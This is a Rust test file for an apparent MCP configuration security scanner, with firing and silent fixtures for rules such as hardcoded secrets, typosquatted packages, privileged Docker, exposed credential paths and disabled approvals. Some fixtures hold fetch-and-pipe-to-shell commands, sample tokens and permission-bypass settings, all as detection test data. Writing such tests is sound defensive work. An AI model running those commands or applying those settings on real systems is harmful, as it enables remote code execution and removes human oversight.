//! Every rule has fixtures that fire and fixtures that must not, in every config format it
//! applies to. Server-level fixtures are written once and rendered into each client's format.

use std::path::{Path, PathBuf};

use mcpward_config::discover::Candidate;
use mcpward_config::{Client, ConfigKind, Format, load};
use mcpward_scan::{FileFacts, Finding, Input, NoFacts, Report, Severity, scan};
use serde_json::{Value, json};

/// A server definition, independent of any client's format.
#[derive(Clone, Default)]
struct Spec {
    name: &'static str,
    command: Option<&'static str>,
    args: Vec<&'static str>,
    env: Vec<(&'static str, &'static str)>,
    url: Option<&'static str>,
    headers: Vec<(&'static str, &'static str)>,
}

fn stdio(name: &'static str, command: &'static str, args: &[&'static str]) -> Spec {
    Spec {
        name,
        command: Some(command),
        args: args.to_vec(),
        ..Spec::default()
    }
}

fn remote(name: &'static str, url: &'static str) -> Spec {
    Spec {
        name,
        url: Some(url),
        ..Spec::default()
    }
}

impl Spec {
    fn env(mut self, k: &'static str, v: &'static str) -> Self {
        self.env.push((k, v));
        self
    }
    fn header(mut self, k: &'static str, v: &'static str) -> Self {
        self.headers.push((k, v));
        self
    }
    fn json_body(&self, url_key: &str, with_type: bool) -> Value {
        let mut m = serde_json::Map::new();
        if let Some(c) = self.command {
            if with_type {
                m.insert("type".into(), json!("stdio"));
            }
            m.insert("command".into(), json!(c));
            m.insert("args".into(), json!(self.args));
        }
        if let Some(u) = self.url {
            if with_type {
                m.insert("type".into(), json!("http"));
            }
            m.insert(url_key.into(), json!(u));
        }
        if !self.env.is_empty() {
            m.insert(
                "env".into(),
                Value::Object(
                    self.env
                        .iter()
                        .map(|(k, v)| ((*k).to_string(), json!(v)))
                        .collect(),
                ),
            );
        }
        if !self.headers.is_empty() {
            m.insert(
                "headers".into(),
                Value::Object(
                    self.headers
                        .iter()
                        .map(|(k, v)| ((*k).to_string(), json!(v)))
                        .collect(),
                ),
            );
        }
        Value::Object(m)
    }
}

fn q(s: &str) -> String {
    serde_json::to_string(s).expect("strings serialize")
}

/// The servers rendered as one config file of each format that can express them.
fn render_all(specs: &[Spec]) -> Vec<(Client, ConfigKind, Format, &'static str, String)> {
    let obj = |url_key: &str, typed: bool| -> Value {
        Value::Object(
            specs
                .iter()
                .map(|s| (s.name.to_string(), s.json_body(url_key, typed)))
                .collect(),
        )
    };
    let mut out = vec![
        (
            Client::ClaudeCode,
            ConfigKind::McpServers,
            Format::Json,
            ".mcp.json",
            json!({"mcpServers": obj("url", false)}).to_string(),
        ),
        (
            Client::VsCode,
            ConfigKind::VsCodeMcp,
            Format::Json,
            "mcp.json",
            json!({"servers": obj("url", true)}).to_string(),
        ),
        (
            Client::GeminiCli,
            ConfigKind::GeminiSettings,
            Format::Json,
            "settings.json",
            json!({"mcpServers": obj("httpUrl", false)}).to_string(),
        ),
        (
            Client::ClaudeCode,
            ConfigKind::ClaudeUserState,
            Format::Json,
            ".claude.json",
            json!({"projects": {"/home/dev/app": {"mcpServers": obj("url", false)}}}).to_string(),
        ),
    ];
    if specs.iter().all(|s| s.command.is_some()) {
        out.push((
            Client::Zed,
            ConfigKind::ZedSettings,
            Format::Json,
            "settings.json",
            json!({"context_servers": obj("url", false)}).to_string(),
        ));
    }
    // Codex TOML.
    let mut toml = String::from("model = \"o3\"\n");
    for s in specs {
        toml.push_str(&format!("\n[mcp_servers.{}]\n", q(s.name)));
        if let Some(c) = s.command {
            toml.push_str(&format!(
                "command = {}\nargs = [{}]\n",
                q(c),
                s.args.iter().map(|a| q(a)).collect::<Vec<_>>().join(", ")
            ));
        }
        if let Some(u) = s.url {
            toml.push_str(&format!("url = {}\n", q(u)));
        }
        if !s.headers.is_empty() {
            toml.push_str(&format!(
                "http_headers = {{ {} }}\n",
                s.headers
                    .iter()
                    .map(|(k, v)| format!("{} = {}", q(k), q(v)))
                    .collect::<Vec<_>>()
                    .join(", ")
            ));
        }
        if !s.env.is_empty() {
            toml.push_str(&format!("\n[mcp_servers.{}.env]\n", q(s.name)));
            for (k, v) in &s.env {
                toml.push_str(&format!("{} = {}\n", q(k), q(v)));
            }
        }
    }
    out.push((
        Client::Codex,
        ConfigKind::CodexToml,
        Format::Toml,
        "config.toml",
        toml,
    ));
    // Continue YAML.
    let mut yaml = String::from("name: test\nversion: 0.0.1\nmcpServers:\n");
    for s in specs {
        yaml.push_str(&format!("  - name: {}\n", q(s.name)));
        if let Some(c) = s.command {
            yaml.push_str(&format!("    command: {}\n    args:\n", q(c)));
            for a in &s.args {
                yaml.push_str(&format!("      - {}\n", q(a)));
            }
            if s.args.is_empty() {
                yaml.push_str("      []\n");
            }
        }
        if let Some(u) = s.url {
            yaml.push_str(&format!("    type: streamable-http\n    url: {}\n", q(u)));
        }
        if !s.env.is_empty() {
            yaml.push_str("    env:\n");
            for (k, v) in &s.env {
                yaml.push_str(&format!("      {}: {}\n", q(k), q(v)));
            }
        }
        if !s.headers.is_empty() {
            yaml.push_str("    headers:\n");
            for (k, v) in &s.headers {
                yaml.push_str(&format!("      {}: {}\n", q(k), q(v)));
            }
        }
    }
    out.push((
        Client::Continue,
        ConfigKind::ContinueConfig,
        Format::Yaml,
        "config.yaml",
        yaml,
    ));
    out
}

struct Facts {
    tracked: bool,
    mode: u32,
}

impl FileFacts for Facts {
    fn tracked_by_git(&self, _: &Path) -> Option<bool> {
        Some(self.tracked)
    }
    fn mode(&self, _: &Path) -> Option<u32> {
        Some(self.mode)
    }
}

fn scan_one(
    client: Client,
    kind: ConfigKind,
    format: Format,
    file: &str,
    text: &str,
    facts: &dyn FileFacts,
) -> Report {
    let candidate = Candidate {
        path: PathBuf::from(format!("/fixtures/{file}")),
        client,
        kind,
        format,
    };
    let mut input = Input {
        home: Some("/home/dev".into()),
        ..Input::default()
    };
    match load(&candidate, text.as_bytes()) {
        Ok(doc) => input.docs.push(doc),
        Err(e) => input.errors.push((client, e)),
    }
    scan(&input, facts)
}

fn fired<'a>(report: &'a Report, rule: &str) -> Vec<&'a Finding> {
    report.findings.iter().filter(|f| f.rule == rule).collect()
}

/// Asserts that `rule` fires (or not) for these servers in every format.
fn check(rule: &str, specs: &[Spec], expect: bool) {
    for (client, kind, format, file, text) in render_all(specs) {
        let report = scan_one(client, kind, format, file, &text, &NoFacts);
        assert!(
            report
                .findings
                .iter()
                .all(|f| f.rule != "config-parse-error"),
            "fixture for {rule} did not parse as {kind:?}:\n{text}\n{:#?}",
            report.findings
        );
        let hits = fired(&report, rule);
        assert_eq!(
            !hits.is_empty(),
            expect,
            "{rule} in {kind:?} expected {expect}:\n{text}\nfindings: {:#?}",
            report.findings
        );
        for f in hits {
            assert!(
                f.line >= 1 && f.column >= 1,
                "{rule} finding without a position: {f:?}"
            );
        }
    }
}

fn fires(rule: &str, specs: &[Spec]) {
    check(rule, specs, true);
}

fn silent(rule: &str, specs: &[Spec]) {
    check(rule, specs, false);
}

const GH_TOKEN: &str = "ghp_R7kX2mQ9vL4pT8wN3bZ6cY1dF5gH0jS2aE7u";

#[test]
fn secret_in_config() {
    let base = || {
        stdio(
            "gh",
            "npx",
            &["-y", "@modelcontextprotocol/server-github@2025.4.8"],
        )
    };
    fires(
        "secret-in-config",
        &[base().env("GITHUB_PERSONAL_ACCESS_TOKEN", GH_TOKEN)],
    );
    fires(
        "secret-in-config",
        &[stdio(
            "s",
            "npx",
            &["-y", "@modelcontextprotocol/server-slack@2025.4.25"],
        )
        .env(
            "SLACK_BOT_TOKEN",
            "xoxb-2711928342-4611686018427-Vh3kQzL8rT2mXnP9aB7cD1eF",
        )],
    );
    fires(
        "secret-in-config",
        &[stdio(
            "x",
            "my-server",
            &["--api-key", "Qm8v2LpX7tRz4NwKc9Hs3Jd6"],
        )],
    );
    fires(
        "secret-in-config",
        &[stdio(
            "x",
            "my-server",
            &["--token=Qm8v2LpX7tRz4NwKc9Hs3Jd6"],
        )],
    );
    fires(
        "secret-in-config",
        &[stdio("pg", "uvx", &["postgres-mcp==0.3.0"]).env(
            "DATABASE_URI",
            "postgresql://admin:Qm8v2LpX7tRz4NwK@db.example.com/prod",
        )],
    );
    fires(
        "secret-in-config",
        &[stdio(
            "d",
            "docker",
            &[
                "run",
                "-i",
                "-e",
                "OPENAI_API_KEY=sk-proj-Qm8v2LpX7tRz4NwKc9Hs3Jd6Tz1Vb5Nm8Lk2Jh4Gf7Ds9Aq",
                "mcp/x@sha256:0000",
            ],
        )],
    );
    fires(
        "secret-in-config",
        &[remote("r", "https://mcp.example.com/mcp")
            .header("Authorization", "Bearer Qm8v2LpX7tRz4NwKc9Hs3Jd6Tz1Vb5Nm")],
    );
    // References and placeholders are not secrets.
    for value in [
        "${GITHUB_TOKEN}",
        "${env:GITHUB_TOKEN}",
        "${input:gh}",
        "${{ secrets.GH }}",
        "your-github-token-here",
        "<YOUR_TOKEN>",
        "",
        "ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
    ] {
        silent(
            "secret-in-config",
            &[base().env("GITHUB_PERSONAL_ACCESS_TOKEN", value)],
        );
    }
    silent(
        "secret-in-config",
        &[base()
            .env("LOG_LEVEL", "debug")
            .env("SLACK_TEAM_ID", "T01234567")],
    );
    silent(
        "secret-in-config",
        &[remote("r", "https://mcp.example.com/mcp")
            .header("Authorization", "Bearer ${API_TOKEN}")],
    );
}

#[test]
fn secret_values_never_appear_in_reports() {
    for (client, kind, format, file, text) in
        render_all(
            &[stdio("gh", "npx", &["-y", "x@1.0.0", "--token", GH_TOKEN])
                .env("GITHUB_TOKEN", GH_TOKEN)],
        )
    {
        let report = scan_one(client, kind, format, file, &text, &NoFacts);
        let json = mcpward_scan::render::json::render(&report);
        let sarif = mcpward_scan::render::sarif::render(&report, mcpward_scan::rules::all(), None);
        let human = mcpward_scan::render::human::render(&report, &|_| Some(text.as_str()), false);
        for out in [json, sarif, human] {
            assert!(
                !out.contains(GH_TOKEN) && !out.contains(&GH_TOKEN[8..]),
                "secret leaked for {kind:?}:\n{out}"
            );
        }
    }
}

#[test]
fn token_in_url() {
    fires(
        "token-in-url",
        &[remote(
            "r",
            "https://mcp.example.com/mcp?api_key=Zx8vQ2mN4pL7rT9wK3hJ6fD1sA5gB0cE",
        )],
    );
    fires(
        "token-in-url",
        &[remote(
            "r",
            "https://bob:Zx8vQ2mN4pL7rT9w@mcp.example.com/mcp",
        )],
    );
    fires(
        "token-in-url",
        &[stdio(
            "r",
            "npx",
            &[
                "-y",
                "mcp-remote@0.1.29",
                "https://mcp.example.com/sse?token=Zx8vQ2mN4pL7rT9wK3hJ6fD1sA5gB0cE",
            ],
        )],
    );
    silent(
        "token-in-url",
        &[remote(
            "r",
            "https://mcp.example.com/mcp?api_key=${API_KEY}",
        )],
    );
    silent(
        "token-in-url",
        &[remote(
            "r",
            "https://mcp.example.com/mcp?page=2&format=json",
        )],
    );
}

#[test]
fn unpinned_package() {
    for args in [
        &["-y", "@modelcontextprotocol/server-memory"][..],
        &["-y", "@modelcontextprotocol/server-memory@latest"],
        &["@modelcontextprotocol/server-memory@^2025.4.0"],
    ] {
        fires("unpinned-package", &[stdio("m", "npx", args)]);
    }
    fires(
        "unpinned-package",
        &[stdio("f", "uvx", &["mcp-server-fetch"])],
    );
    fires(
        "unpinned-package",
        &[stdio("f", "uvx", &["mcp-server-fetch>=2025.1"])],
    );
    fires(
        "unpinned-package",
        &[stdio(
            "g",
            "docker",
            &["run", "-i", "--rm", "ghcr.io/github/github-mcp-server"],
        )],
    );
    fires(
        "unpinned-package",
        &[stdio(
            "g",
            "docker",
            &[
                "run",
                "-i",
                "--rm",
                "ghcr.io/github/github-mcp-server:latest",
            ],
        )],
    );
    fires(
        "unpinned-package",
        &[stdio(
            "w",
            "cmd",
            &["/c", "npx", "-y", "@modelcontextprotocol/server-memory"],
        )],
    );
    silent(
        "unpinned-package",
        &[stdio(
            "m",
            "npx",
            &["-y", "@modelcontextprotocol/server-memory@2025.8.4"],
        )],
    );
    silent(
        "unpinned-package",
        &[stdio("f", "uvx", &["mcp-server-fetch==2025.4.7"])],
    );
    silent(
        "unpinned-package",
        &[stdio(
            "f",
            "uvx",
            &["--from", "mcp-server-git==2025.7.1", "mcp-server-git"],
        )],
    );
    silent(
        "unpinned-package",
        &[stdio(
            "g",
            "docker",
            &[
                "run",
                "-i",
                "ghcr.io/github/github-mcp-server@sha256:3f1c2b9e",
            ],
        )],
    );
    silent(
        "unpinned-package",
        &[stdio("l", "/usr/local/bin/my-server", &["--stdio"])],
    );
}

#[test]
fn docker_tag_without_digest_is_low() {
    let (client, kind, format, file, text) = render_all(&[stdio(
        "g",
        "docker",
        &["run", "-i", "ghcr.io/github/github-mcp-server:v0.9.0"],
    )])
    .remove(0);
    let report = scan_one(client, kind, format, file, &text, &NoFacts);
    let f = fired(&report, "unpinned-package");
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].severity, Severity::Low);
}

#[test]
fn typosquat_package() {
    fires(
        "typosquat-package",
        &[stdio(
            "f",
            "npx",
            &["-y", "@modelcontextprotocol/server-filesytem@1.0.0", "/srv"],
        )],
    );
    fires(
        "typosquat-package",
        &[stdio(
            "m",
            "npx",
            &["-y", "@modelcontextprotocoI/server-memory@1.0.0"],
        )],
    );
    fires(
        "typosquat-package",
        &[stdio("f", "uvx", &["mcp-server-fetc==1.0"])],
    );
    silent(
        "typosquat-package",
        &[stdio(
            "f",
            "npx",
            &[
                "-y",
                "@modelcontextprotocol/server-filesystem@2025.8.21",
                "/srv",
            ],
        )],
    );
    silent(
        "typosquat-package",
        &[stdio("f", "uvx", &["mcp_server_fetch==2025.4.7"])],
    );
    silent(
        "typosquat-package",
        &[stdio("x", "npx", &["-y", "left-pad-formatter@1.0.0"])],
    );
}

#[test]
fn unknown_package() {
    fires(
        "unknown-package",
        &[stdio("n", "npx", &["-y", "acme-notes-mcp@1.4.2"])],
    );
    fires(
        "unknown-package",
        &[stdio("n", "uvx", &["acme-notes-mcp==1.4.2"])],
    );
    silent(
        "unknown-package",
        &[stdio(
            "m",
            "npx",
            &["-y", "@modelcontextprotocol/server-memory@2025.8.4"],
        )],
    );
    silent("unknown-package", &[stdio("l", "/opt/bin/my-server", &[])]);
    // A squat is reported as such, not as unknown.
    silent(
        "unknown-package",
        &[stdio(
            "f",
            "npx",
            &["-y", "@modelcontextprotocol/server-filesytem@1.0.0", "/srv"],
        )],
    );
}

const FS: &str = "@modelcontextprotocol/server-filesystem@2025.8.21";

#[test]
fn broad_filesystem_scope() {
    for root in [
        "/",
        "~",
        "$HOME",
        "/home/dev",
        "/home/dev/",
        "/Users/dev",
        "C:\\Users\\dev",
        "C:\\",
    ] {
        fires(
            "broad-filesystem-scope",
            &[stdio("fs", "npx", &["-y", FS, root])],
        );
    }
    fires(
        "broad-filesystem-scope",
        &[stdio(
            "d",
            "docker",
            &[
                "run",
                "-i",
                "-v",
                "/home/dev:/data",
                "mcp/filesystem@sha256:00",
                "/data",
            ],
        )],
    );
    for root in [
        "/home/dev/src/app",
        "~/src/app",
        "./docs",
        "C:\\Users\\dev\\src",
    ] {
        silent(
            "broad-filesystem-scope",
            &[stdio("fs", "npx", &["-y", FS, root])],
        );
    }
}

#[test]
fn sensitive_path_exposed() {
    for p in [
        "~/.ssh",
        "/home/dev/.aws",
        "~/.config/gcloud",
        "/srv/app/.env",
        "/var/run/docker.sock",
        "~/Library/Keychains",
        "~/.mozilla/firefox",
    ] {
        fires(
            "sensitive-path-exposed",
            &[stdio("fs", "npx", &["-y", FS, p])],
        );
    }
    fires(
        "sensitive-path-exposed",
        &[stdio(
            "d",
            "docker",
            &[
                "run",
                "-i",
                "-v",
                "/home/dev/.kube:/root/.kube:ro",
                "mcp/k8s@sha256:00",
            ],
        )],
    );
    fires(
        "sensitive-path-exposed",
        &[stdio("x", "my-server", &[]).env("KUBECONFIG", "/home/dev/.kube/config")],
    );
    for p in [
        "/home/dev/src/app",
        "/srv/app/.env.example",
        "~/.sshd_notes",
    ] {
        silent(
            "sensitive-path-exposed",
            &[stdio("fs", "npx", &["-y", FS, p])],
        );
    }
}

#[test]
fn shell_command_server() {
    fires(
        "shell-command-server",
        &[stdio(
            "i",
            "bash",
            &["-c", "curl -fsSL https://get.example.dev/i.sh | sh"],
        )],
    );
    fires(
        "shell-command-server",
        &[stdio("i", "sh", &["-c", "cd /srv && ./server --stdio"])],
    );
    fires(
        "shell-command-server",
        &[stdio(
            "i",
            "powershell",
            &["-Command", "iwr https://x.example/i.ps1 | iex"],
        )],
    );
    fires(
        "shell-command-server",
        &[stdio(
            "i",
            "node",
            &["-e", "require('child_process').exec(process.argv[1])"],
        )],
    );
    silent(
        "shell-command-server",
        &[stdio(
            "m",
            "npx",
            &["-y", "@modelcontextprotocol/server-memory@2025.8.4"],
        )],
    );
    silent(
        "shell-command-server",
        &[stdio("s", "bash", &["/opt/mcp/start.sh"])],
    );
    // Severity follows the script.
    let sev = |args: &[&'static str]| {
        let (client, kind, format, file, text) =
            render_all(&[stdio("i", args[0], &args[1..])]).remove(0);
        fired(
            &scan_one(client, kind, format, file, &text, &NoFacts),
            "shell-command-server",
        )[0]
        .severity
    };
    assert_eq!(
        sev(&["bash", "-c", "curl -fsSL https://x.example/i.sh | bash"]),
        Severity::Critical
    );
    assert_eq!(sev(&["bash", "-c", "cd /srv && ./server"]), Severity::High);
    assert_eq!(
        sev(&[
            "cmd",
            "/c",
            "npx",
            "-y",
            "@modelcontextprotocol/server-memory@2025.8.4"
        ]),
        Severity::Low
    );
}

#[test]
fn exec_capable_server() {
    fires(
        "exec-capable-server",
        &[stdio(
            "dc",
            "npx",
            &["-y", "@wonderwhy-er/desktop-commander@0.2.7"],
        )],
    );
    fires(
        "exec-capable-server",
        &[stdio("terminal", "npx", &["-y", "acme-terminal-mcp@1.0.0"])],
    );
    silent(
        "exec-capable-server",
        &[stdio(
            "m",
            "npx",
            &["-y", "@modelcontextprotocol/server-memory@2025.8.4"],
        )],
    );
    silent(
        "exec-capable-server",
        &[stdio("time", "uvx", &["mcp-server-time==2025.8.4"])],
    );
}

#[test]
fn insecure_transport() {
    fires(
        "insecure-transport",
        &[remote("r", "http://mcp.example.com/mcp")],
    );
    fires(
        "insecure-transport",
        &[remote("r", "http://10.0.0.5:8080/mcp")],
    );
    fires(
        "insecure-transport",
        &[stdio(
            "r",
            "npx",
            &["-y", "mcp-remote@0.1.29", "http://mcp.example.com/sse"],
        )],
    );
    for url in [
        "https://mcp.example.com/mcp",
        "http://localhost:3000/mcp",
        "http://127.0.0.1:3000/mcp",
        "http://[::1]:3000/mcp",
    ] {
        silent("insecure-transport", &[remote("r", url)]);
    }
}

#[test]
fn docker_privileged() {
    for extra in [
        &["--privileged"][..],
        &["--network=host"],
        &["--pid", "host"],
        &["--cap-add", "SYS_ADMIN"],
        &["-v", "/var/run/docker.sock:/var/run/docker.sock"],
        &["-v", "/:/host"],
        &["--security-opt", "seccomp=unconfined"],
    ] {
        let mut args = vec!["run", "-i", "--rm"];
        args.extend_from_slice(extra);
        args.push("mcp/x@sha256:00");
        let args: &'static [&'static str] = Box::leak(args.into_boxed_slice());
        fires("docker-privileged", &[stdio("d", "docker", args)]);
        let mut podman = args.to_vec();
        podman[0] = "run";
        fires(
            "docker-privileged",
            &[stdio("d", "podman", Box::leak(podman.into_boxed_slice()))],
        );
    }
    silent(
        "docker-privileged",
        &[stdio(
            "d",
            "docker",
            &[
                "run",
                "-i",
                "--rm",
                "-v",
                "/home/dev/src/app:/work:ro",
                "--network",
                "none",
                "mcp/x@sha256:00",
            ],
        )],
    );
}

#[test]
fn database_write_access() {
    fires(
        "database-write-access",
        &[stdio(
            "pg",
            "uvx",
            &["postgres-mcp==0.3.0", "--access-mode=unrestricted"],
        )],
    );
    fires(
        "database-write-access",
        &[stdio("acme-mysql", "npx", &["-y", "acme-mysql-mcp@1.0.0"])],
    );
    silent(
        "database-write-access",
        &[stdio(
            "pg",
            "uvx",
            &["postgres-mcp==0.3.0", "--access-mode=restricted"],
        )],
    );
    silent(
        "database-write-access",
        &[stdio(
            "acme-mysql",
            "npx",
            &["-y", "acme-mysql-mcp@1.0.0", "--read-only"],
        )],
    );
    silent(
        "database-write-access",
        &[stdio(
            "m",
            "npx",
            &["-y", "@modelcontextprotocol/server-memory@2025.8.4"],
        )],
    );
}

#[test]
fn unrestricted_fetch() {
    fires(
        "unrestricted-fetch",
        &[stdio("fetch", "uvx", &["mcp-server-fetch==2025.4.7"])],
    );
    fires(
        "unrestricted-fetch",
        &[stdio("browser", "npx", &["-y", "@playwright/mcp@0.0.41"])],
    );
    silent(
        "unrestricted-fetch",
        &[stdio(
            "browser",
            "npx",
            &[
                "-y",
                "@playwright/mcp@0.0.41",
                "--allowed-origins",
                "https://example.com",
            ],
        )],
    );
    silent(
        "unrestricted-fetch",
        &[stdio(
            "m",
            "npx",
            &["-y", "@modelcontextprotocol/server-memory@2025.8.4"],
        )],
    );
}

#[test]
fn toxic_flow() {
    let fetch = stdio("fetch", "uvx", &["mcp-server-fetch==2025.4.7"]);
    let fs = stdio("fs", "npx", &["-y", FS, "/home/dev/src/app"]);
    let slack = stdio(
        "slack",
        "npx",
        &["-y", "@modelcontextprotocol/server-slack@2025.4.25"],
    );
    let memory = stdio(
        "memory",
        "npx",
        &["-y", "@modelcontextprotocol/server-memory@2025.8.4"],
    );
    let time = stdio("time", "uvx", &["mcp-server-time==2025.8.4"]);
    fires("toxic-flow", &[fetch.clone(), fs.clone(), slack.clone()]);
    fires("toxic-flow", &[fetch.clone(), fs.clone()]);
    silent("toxic-flow", &[fs.clone(), memory.clone(), time.clone()]);
    silent("toxic-flow", &[memory, time]);
}

#[test]
fn auto_approve() {
    let cases = [
        (
            Client::ClaudeCode,
            ConfigKind::ClaudeSettings,
            Format::Json,
            "settings.json",
            r#"{"enableAllProjectMcpServers": true}"#,
            true,
        ),
        (
            Client::ClaudeCode,
            ConfigKind::ClaudeSettings,
            Format::Json,
            "settings.json",
            r#"{"enableAllProjectMcpServers": false, "enabledMcpjsonServers": ["x"]}"#,
            false,
        ),
        (
            Client::ClaudeCode,
            ConfigKind::ClaudeUserState,
            Format::Json,
            ".claude.json",
            r#"{"projects": {"/a": {"enableAllProjectMcpServers": true}}}"#,
            true,
        ),
        (
            Client::Cline,
            ConfigKind::McpServers,
            Format::Json,
            "cline_mcp_settings.json",
            r#"{"mcpServers": {"s": {"command": "uvx", "args": ["mcp-shell-server==1.0.0"], "autoApprove": ["run_command"]}}}"#,
            true,
        ),
        (
            Client::Cline,
            ConfigKind::McpServers,
            Format::Json,
            "cline_mcp_settings.json",
            r#"{"mcpServers": {"s": {"command": "uvx", "args": ["mcp-shell-server==1.0.0"], "autoApprove": []}}}"#,
            false,
        ),
        (
            Client::RooCode,
            ConfigKind::McpServers,
            Format::Json,
            "mcp.json",
            r#"{"mcpServers": {"s": {"command": "x", "alwaysAllow": ["*"]}}}"#,
            true,
        ),
        (
            Client::GeminiCli,
            ConfigKind::GeminiSettings,
            Format::Json,
            "settings.json",
            r#"{"mcpServers": {"s": {"command": "x", "trust": true}}}"#,
            true,
        ),
        (
            Client::GeminiCli,
            ConfigKind::GeminiSettings,
            Format::Json,
            "settings.json",
            r#"{"mcpServers": {"s": {"command": "x", "trust": false}}}"#,
            false,
        ),
    ];
    for (client, kind, format, file, text, expect) in cases {
        let report = scan_one(client, kind, format, file, text, &NoFacts);
        assert_eq!(
            !fired(&report, "auto-approve").is_empty(),
            expect,
            "{text}: {:#?}",
            report.findings
        );
    }
}

#[test]
fn broad_permission_rule() {
    let servers = r#"{"mcpServers": {"dc": {"command": "npx", "args": ["-y", "@wonderwhy-er/desktop-commander@0.2.7"]}, "time": {"command": "uvx", "args": ["mcp-server-time==2025.8.4"]}}, "permissions": {"allow": [RULES]}}"#;
    for (rules, expect) in [
        (r#""mcp__dc""#, true),
        (r#""mcp__dc__*""#, true),
        (r#""mcp__*""#, true),
        (r#""Bash""#, true),
        (r#""mcp__time""#, false),
        (r#""mcp__dc__read_file""#, false),
        (r#""Read""#, false),
    ] {
        let text = servers.replace("RULES", rules);
        let report = scan_one(
            Client::ClaudeCode,
            ConfigKind::ClaudeSettings,
            Format::Json,
            "settings.json",
            &text,
            &NoFacts,
        );
        assert_eq!(
            !fired(&report, "broad-permission-rule").is_empty(),
            expect,
            "{rules}: {:#?}",
            report.findings
        );
    }
    let cases = [
        (
            Client::ClaudeCode,
            ConfigKind::ClaudeSettings,
            Format::Json,
            r#"{"permissions": {"defaultMode": "bypassPermissions"}}"#,
            true,
        ),
        (
            Client::ClaudeCode,
            ConfigKind::ClaudeSettings,
            Format::Json,
            r#"{"permissions": {"defaultMode": "acceptEdits"}}"#,
            false,
        ),
        (
            Client::Codex,
            ConfigKind::CodexToml,
            Format::Toml,
            "approval_policy = \"never\"\n",
            true,
        ),
        (
            Client::Codex,
            ConfigKind::CodexToml,
            Format::Toml,
            "sandbox_mode = \"danger-full-access\"\n",
            true,
        ),
        (
            Client::Codex,
            ConfigKind::CodexToml,
            Format::Toml,
            "approval_policy = \"on-request\"\n",
            false,
        ),
        (
            Client::VsCode,
            ConfigKind::VsCodeSettings,
            Format::Json,
            r#"{"chat.tools.autoApprove": true}"#,
            true,
        ),
        (
            Client::VsCode,
            ConfigKind::VsCodeSettings,
            Format::Json,
            r#"{"chat.tools.autoApprove": false}"#,
            false,
        ),
    ];
    for (client, kind, format, text, expect) in cases {
        let report = scan_one(client, kind, format, "settings", text, &NoFacts);
        assert_eq!(
            !fired(&report, "broad-permission-rule").is_empty(),
            expect,
            "{text}: {:#?}",
            report.findings
        );
    }
}

#[test]
fn config_parse_error() {
    let broken = [
        (
            Client::ClaudeCode,
            ConfigKind::McpServers,
            Format::Json,
            "{\"mcpServers\": {\"x\": {\"command\": \"npx\"\n \"args\": []}}}",
            1,
        ),
        (
            Client::Codex,
            ConfigKind::CodexToml,
            Format::Toml,
            "[mcp_servers.x]\ncommand = \"npx\nargs = []\n",
            2,
        ),
        (
            Client::Continue,
            ConfigKind::ContinueConfig,
            Format::Yaml,
            "mcpServers:\n  - name: x\n    command: [npx\n",
            0,
        ),
    ];
    for (client, kind, format, text, line) in broken {
        let report = scan_one(client, kind, format, "cfg", text, &NoFacts);
        let f = fired(&report, "config-parse-error");
        assert_eq!(f.len(), 1, "{text}: {:#?}", report.findings);
        if line > 0 {
            assert_eq!(f[0].line, line, "{text}: {:?}", f[0]);
        }
        assert_eq!(report.configs[0].status, "error");
    }
    // Wrong shapes are findings too.
    let report = scan_one(
        Client::ClaudeCode,
        ConfigKind::McpServers,
        Format::Json,
        "x",
        r#"{"mcpServers": [1, 2]}"#,
        &NoFacts,
    );
    assert_eq!(fired(&report, "config-parse-error").len(), 1);
    let report = scan_one(
        Client::ClaudeCode,
        ConfigKind::McpServers,
        Format::Json,
        "x",
        r#"{"mcpServers": {"a": {"args": []}}}"#,
        &NoFacts,
    );
    assert_eq!(fired(&report, "config-parse-error").len(), 1);
    // Invalid UTF-8 and oversize files.
    let candidate = Candidate {
        path: "/f/.mcp.json".into(),
        client: Client::ClaudeCode,
        kind: ConfigKind::McpServers,
        format: Format::Json,
    };
    let e = load(&candidate, b"{\n\"a\": \"\xff\"}").expect_err("invalid UTF-8");
    assert_eq!((e.line, e.reason.as_str()), (2, "invalid UTF-8"));
    let big = vec![b' '; mcpward_config::parse::MAX_CONFIG_BYTES + 1];
    assert!(load(&candidate, &big).is_err());
    // Valid files are silent.
    for (client, kind, format, file, text) in render_all(&[stdio("m", "npx", &["-y", "x@1.0.0"])]) {
        assert!(
            fired(
                &scan_one(client, kind, format, file, &text, &NoFacts),
                "config-parse-error"
            )
            .is_empty()
        );
    }
}

#[test]
fn config_tracked_and_world_readable() {
    let with_secret = [stdio(
        "gh",
        "npx",
        &["-y", "@modelcontextprotocol/server-github@2025.4.8"],
    )
    .env("GITHUB_TOKEN", GH_TOKEN)];
    let without = [stdio(
        "gh",
        "npx",
        &["-y", "@modelcontextprotocol/server-github@2025.4.8"],
    )
    .env("GITHUB_TOKEN", "${GITHUB_TOKEN}")];
    for (client, kind, format, file, text) in render_all(&with_secret) {
        let r = scan_one(
            client,
            kind,
            format,
            file,
            &text,
            &Facts {
                tracked: true,
                mode: 0o644,
            },
        );
        assert_eq!(fired(&r, "config-tracked-with-secret").len(), 1, "{kind:?}");
        // Tracked wins: a checkout's 0644 is not a second finding.
        assert!(fired(&r, "config-world-readable").is_empty(), "{kind:?}");
        let world = Facts {
            tracked: false,
            mode: 0o644,
        };
        let r = scan_one(client, kind, format, file, &text, &world);
        assert_eq!(fired(&r, "config-world-readable").len(), 1, "{kind:?}");
        let r = scan_one(
            client,
            kind,
            format,
            file,
            &text,
            &Facts {
                tracked: false,
                mode: 0o600,
            },
        );
        assert!(
            fired(&r, "config-tracked-with-secret").is_empty()
                && fired(&r, "config-world-readable").is_empty()
        );
    }
    for (client, kind, format, file, text) in render_all(&without) {
        let r = scan_one(
            client,
            kind,
            format,
            file,
            &text,
            &Facts {
                tracked: true,
                mode: 0o644,
            },
        );
        assert!(
            fired(&r, "config-tracked-with-secret").is_empty()
                && fired(&r, "config-world-readable").is_empty()
        );
    }
}

#[test]
fn every_rule_has_a_complete_doc() {
    for rule in mcpward_scan::rules::all() {
        let md = rule.doc;
        for section in [
            "## What it does",
            "## Why it matters",
            "## Example",
            "## Fix",
            "## References",
        ] {
            assert!(md.contains(section), "{} lacks {section}", rule.id);
        }
    }
    let ids: Vec<&str> = mcpward_scan::rules::all().iter().map(|r| r.id).collect();
    for id in [
        "secret-in-config",
        "token-in-url",
        "unpinned-package",
        "typosquat-package",
        "unknown-package",
        "broad-filesystem-scope",
        "sensitive-path-exposed",
        "shell-command-server",
        "exec-capable-server",
        "insecure-transport",
        "docker-privileged",
        "auto-approve",
        "broad-permission-rule",
        "toxic-flow",
